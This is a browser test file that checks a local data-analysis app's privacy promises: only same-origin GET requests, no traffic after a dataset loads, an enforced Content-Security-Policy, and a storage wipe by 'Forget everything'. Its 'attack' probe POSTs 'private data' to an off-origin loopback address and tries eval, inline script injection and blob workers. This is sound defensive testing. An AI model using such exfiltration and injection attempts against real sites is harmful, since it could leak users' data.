/**
 * The privacy promise, checked in real headless Chromium: every request the browser makes (page, engine
 * worker, service worker) is a plain GET of the app's own files, none happens once a dataset is loaded, the
 * Content-Security-Policy is delivered and blocks off-origin traffic, and "Forget everything" clears what
 * a site can store. Off-origin probes go to 127.0.0.2 (loopback) and are blocked before leaving the page.
 */
import { existsSync, statSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { formatWideTable } from '../../src/core/data/write';
import { simulate } from '../../src/core/simulate/simulator';
import { CSP_HEADER, CSP_META } from '../../src/ui/privacy/csp';
import type { RecordedRequest } from './harness';
import {
  cspViolations,
  DIST,
  recordRequests,
  snap,
  waitForOfflineReady,
  watchCspViolations,
  appUnderTest,
} from './harness';

const TRAIN_TIMEOUT = 180_000;
/** Loopback, never routed off this machine; the CSP must stop the request before it is even made. */
const OFF_ORIGIN = 'http://127.0.0.2:9/c3tl-privacy-probe';
const FILE_NAME = 'private-effects.csv';

const app = appUnderTest({ prepare: (browser) => watchCspViolations(browser.context) });

function effectsFile(): { name: string; mimeType: string; buffer: Buffer } {
  const { tensor } = simulate({ contexts: 4, perturbations: 60, genes: 200, seed: 11, counts: false });
  return { name: FILE_NAME, mimeType: 'text/csv', buffer: Buffer.from(formatWideTable(tensor)) };
}

async function openReady(): Promise<Page> {
  const page = await app.browser.context.newPage();
  await page.goto(`${app.server.origin}/`);
  await page
    .getByTestId('backend')
    .filter({ hasText: /webgpu|wasm|cpu/ })
    .waitFor();
  return page;
}

async function loadFile(page: Page): Promise<void> {
  await page.getByTestId('file-input').setInputFiles(effectsFile());
  await page.getByTestId('dataset-summary').filter({ hasText: FILE_NAME }).waitFor();
}

/** A path of the built app: "/" (index.html) or a file that exists in dist/. */
function isAppFile(pathname: string): boolean {
  if (pathname === '/') return true;
  const file = join(DIST, decodeURIComponent(pathname));
  return existsSync(file) && statSync(file).isFile();
}

function describeRequest(r: RecordedRequest): string {
  return `${r.method} ${r.url} (${r.resourceType}${r.byServiceWorker ? ', by the service worker' : ''})`;
}

describe('privacy in headless Chromium', () => {
  it('only fetches its own files with plain GETs, and makes no request from loading a file to results', async () => {
    const log = recordRequests(app.browser.context);
    const page = await openReady();
    // The first visit: the service worker precaches the app; once it controls the page and the network
    // has gone quiet, everything the app will ever need is loaded.
    await waitForOfflineReady(page);
    await log.quiet();
    const loaded = log.requests.length;

    await loadFile(page);
    await page.locator('[data-testid=coverage-heatmap] svg.main-svg').first().waitFor();
    await page.locator('details.advanced summary').click();
    await page.getByTestId('max-epochs-input').fill('3');
    await page.getByTestId('train-button').click();
    await page.getByTestId('metrics-table').waitFor({ timeout: TRAIN_TIMEOUT });
    await page.locator('[data-testid=scatter-plot] svg.main-svg').first().waitFor();
    await page.locator('[data-testid=loss-chart] svg.main-svg').first().waitFor();
    await log.quiet();
    log.stop();

    const afterData = log.requests.slice(loaded);
    expect(afterData.map(describeRequest), 'requests between loading the file and the results').toEqual([]);

    // The recording is not blind: it saw the engine worker fetch its wasm binary and the service worker
    // precache the app.
    const before = log.requests.slice(0, loaded);
    expect(before.some((r) => /\.wasm$/.test(r.url) && !r.byServiceWorker)).toBe(true);
    expect(before.some((r) => r.byServiceWorker)).toBe(true);
    for (const request of before) {
      const url = new URL(request.url);
      const what = describeRequest(request);
      expect(url.origin, what).toBe(app.server.origin);
      expect(request.method, what).toBe('GET');
      expect(request.bodyBytes, what).toBe(0);
      expect(url.search, what).toBe('');
      expect(isAppFile(url.pathname), `${what} is a file of the built app`).toBe(true);
      expect(request.failure, what).toBeNull();
    }
    expect(await cspViolations(page)).toEqual([]);
    await page.close();
  });

  it('delivers the CSP in a meta tag and a header; it blocks off-origin fetches, inline scripts, eval and blob workers', async () => {
    const page = await app.browser.context.newPage();
    const messages: string[] = [];
    page.on('console', (message) => messages.push(message.text()));
    const response = await page.goto(`${app.server.origin}/`);
    expect(response?.headers()['content-security-policy']).toBe(CSP_HEADER);
    expect(response?.headers()['cross-origin-embedder-policy']).toBe('require-corp');
    const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
    expect(await meta.getAttribute('content')).toBe(CSP_META);
    const scriptSources = /script-src ([^;]*)/.exec(CSP_HEADER)?.[1] ?? '';
    expect(scriptSources.split(' ').sort()).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(CSP_HEADER).toMatch(/(^|; )default-src 'self'(;|$)/);
    expect(CSP_HEADER).toMatch(/(^|; )connect-src 'self'(;|$)/);
    await page
      .getByTestId('backend')
      .filter({ hasText: /webgpu|wasm|cpu/ })
      .waitFor();
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    expect(await cspViolations(page), 'the app itself runs without a violation').toEqual([]);

    // Code strings are tried after a macrotask: Playwright's own evaluation turn may generate code freely.
    const attack = async (target: string) => {
      const scope = globalThis as unknown as Record<string, unknown>;
      const violations: string[] = [];
      globalThis.addEventListener('securitypolicyviolation', (e) => {
        const event = e as SecurityPolicyViolationEvent;
        violations.push(`${event.violatedDirective} ${event.blockedURI}`);
      });
      const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
      let fetchError = '';
      try {
        await fetch(target, { method: 'POST', body: 'private data' });
      } catch (error) {
        fetchError = String(error);
      }
      await pause(0);
      let evalError = '';
      try {
        (0, eval)('1');
      } catch (error) {
        evalError = String(error);
      }
      setTimeout('globalThis.__timerRan = true', 0);
      let blobWorker = 'not tried';
      if (typeof document === 'object') {
        const script = document.createElement('script');
        script.textContent = 'window.__inlineRan = true';
        document.head.append(script);
        try {
          const url = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
          const blob = new Worker(url);
          // No deadline: on a slow machine a worker that runs late must still count as 'ran'.
          blobWorker = await new Promise<string>((resolve) => {
            blob.onmessage = () => resolve('ran');
            blob.onerror = () => resolve('blocked');
          });
        } catch {
          blobWorker = 'blocked';
        }
      }
      // Violation reports arrive as later tasks: wait for each expected one rather than for a fixed time
      // (the deadline only ends a failing run; the assertions then name what is missing).
      const expected = [
        'connect-src',
        'script-src eval',
        ...(typeof document === 'object' ? ['script-src-elem'] : []),
      ];
      const deadline = performance.now() + 30_000;
      while (!expected.every((e) => violations.some((v) => v.startsWith(e))) && performance.now() < deadline)
        await pause(0);
      // One more task: a string timer that the policy failed to block would have run by now.
      await pause(0);
      return {
        fetchError,
        evalError,
        timerRan: scope.__timerRan === true,
        inlineRan: scope.__inlineRan === true,
        blobWorker,
        violations,
      };
    };

    const inPage = await page.evaluate(attack, OFF_ORIGIN);
    expect(inPage.fetchError).toMatch(/TypeError/);
    expect(inPage.evalError).toMatch(/EvalError/);
    expect(inPage).toMatchObject({ timerRan: false, inlineRan: false, blobWorker: 'blocked' });
    expect(inPage.violations).toContain(`connect-src ${OFF_ORIGIN}`);
    expect(inPage.violations).toContain('script-src-elem inline');
    expect(inPage.violations).toContain('script-src eval');
    expect(inPage.violations.some((v) => v.startsWith('worker-src blob'))).toBe(true);

    // Workers take their policy from their script's header: the engine worker is locked down as well.
    const worker = page.workers().find((w) => w.url().includes('engine.worker'));
    expect(worker, 'the engine worker').toBeDefined();
    const inWorker = await worker!.evaluate(attack, OFF_ORIGIN);
    expect(inWorker.fetchError).toMatch(/TypeError/);
    expect(inWorker.evalError).toMatch(/EvalError/);
    expect(inWorker.timerRan).toBe(false);
    expect(inWorker.violations).toContain(`connect-src ${OFF_ORIGIN}`);
    expect(inWorker.violations).toContain('script-src eval');
    expect(messages.some((m) => m.includes(OFF_ORIGIN) && m.includes('Content Security Policy'))).toBe(true);

    // Both tfjs backends start in the worker under the policy (wasm needs 'wasm-unsafe-eval').
    await page.getByTestId('backend-select').selectOption('webgpu');
    await page.locator('[data-testid=backend] .backend-name', { hasText: 'webgpu' }).waitFor();
    await page.getByTestId('backend-select').selectOption('wasm');
    await page.locator('[data-testid=backend] .backend-name', { hasText: 'wasm' }).waitFor();
    const probes = /127\.0\.0\.2|inline|eval|blob|Evaluating a string|Refused to evaluate/;
    expect((await cspViolations(page)).filter((v) => !probes.test(v))).toEqual([]);
    expect(messages.filter((m) => /Content Security Policy/.test(m) && !probes.test(m))).toEqual([]);
    await page.close();
  });

  it('says where data is kept, and Forget everything clears storage and unloads the dataset', async () => {
    const page = await openReady();
    const statement = page.getByTestId('privacy-statement');
    expect(await statement.isVisible()).toBe(true);
    expect(await statement.textContent()).toMatch(/kept only in\s+memory/);
    expect(await statement.textContent()).toMatch(
      /Nothing is\s+uploaded\. Nothing is written to disk unless you save a session/,
    );
    await waitForOfflineReady(page);
    await loadFile(page);

    // What a saved session and other site data would look like: a database, web storage, a second cache.
    await page.evaluate(async () => {
      await new Promise<void>((resolve, reject) => {
        const open = indexedDB.open('c3tl-sessions-probe', 1);
        open.onupgradeneeded = () => open.result.createObjectStore('sessions');
        open.onerror = () => reject(open.error);
        open.onsuccess = () => {
          const tx = open.result.transaction('sessions', 'readwrite');
          tx.objectStore('sessions').put({ file: 'private-effects.csv' }, 'last');
          tx.oncomplete = () => {
            open.result.close();
            resolve();
          };
        };
      });
      localStorage.setItem('probe', 'x');
      sessionStorage.setItem('probe', 'x');
      const cache = await caches.open('c3tl-probe');
      await cache.put('/probe', new Response('private'));
    });
    const stored = await page.evaluate(async () => ({
      databases: (await indexedDB.databases()).map((d) => d.name),
      caches: await caches.keys(),
    }));
    expect(stored.databases).toContain('c3tl-sessions-probe');
    expect(stored.caches).toContain('c3tl-probe');

    await snap(page.getByTestId('privacy-panel'), '20-privacy-panel');
    await page.getByTestId('forget-button').click();
    // The page reloads (a new engine worker) and says what was forgotten.
    await page.getByTestId('forget-status').waitFor();
    await page
      .getByTestId('backend')
      .filter({ hasText: /webgpu|wasm|cpu/ })
      .waitFor();
    const after = await page.evaluate(async () => ({
      databases: (await indexedDB.databases()).map((d) => d.name),
      caches: await caches.keys(),
      local: localStorage.length,
      session: sessionStorage.length,
      hash: location.hash,
    }));
    expect(after.databases).toEqual([]);
    expect(after.local).toBe(0);
    expect(after.session).toBe(0);
    expect(after.hash).toBe('');
    // Only the app's own files stay, so it still opens offline.
    expect(after.caches.length).toBeGreaterThan(0);
    expect(after.caches.filter((name) => !name.startsWith('workbox-precache'))).toEqual([]);
    expect(await page.getByTestId('dataset-summary').count()).toBe(0);
    expect(await page.getByTestId('train-button').count()).toBe(0);
    await snap(page.getByTestId('privacy-panel'), '21-forgotten');

    // The fresh engine works: a file loads again.
    await loadFile(page);
    expect(await cspViolations(page)).toEqual([]);
    await page.close();
  });
});
